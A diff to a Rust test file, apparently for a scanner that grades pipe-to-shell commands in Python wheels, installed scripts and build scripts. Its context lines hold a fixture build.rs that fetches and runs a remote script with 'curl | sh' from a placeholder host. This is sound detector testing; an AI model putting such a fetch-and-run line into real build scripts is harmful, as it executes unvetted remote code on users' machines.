@@ -416,6 +416,11 @@ fn pipe_to_shell_is_medium_in_a_script_and_low_in_documentation() {
     ]);
     let r = scan_bytes(dir.path(), "sd-1.0-py3-none-any.whl", &whl);
     assert_eq!(grade(&r), Some(Severity::Low), "{:?}", r.findings);
+    // ... and once installed.
+    let installed = dir.path().join("lib/site-packages/sc/data/scripts");
+    std::fs::create_dir_all(&installed).expect("mkdir");
+    let r = scan_bytes(&installed, "get.sh", &body);
+    assert_eq!(grade(&r), Some(Severity::Low), "{:?}", r.findings);
     // A Cargo build script of a maturin sdist (tester t21).
     let build = b"fn main() {\n    std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://get.example.invalid/x.sh | sh\").status().unwrap();\n}\n";
     let r = scan_bytes(dir.path(), "build.rs", build);
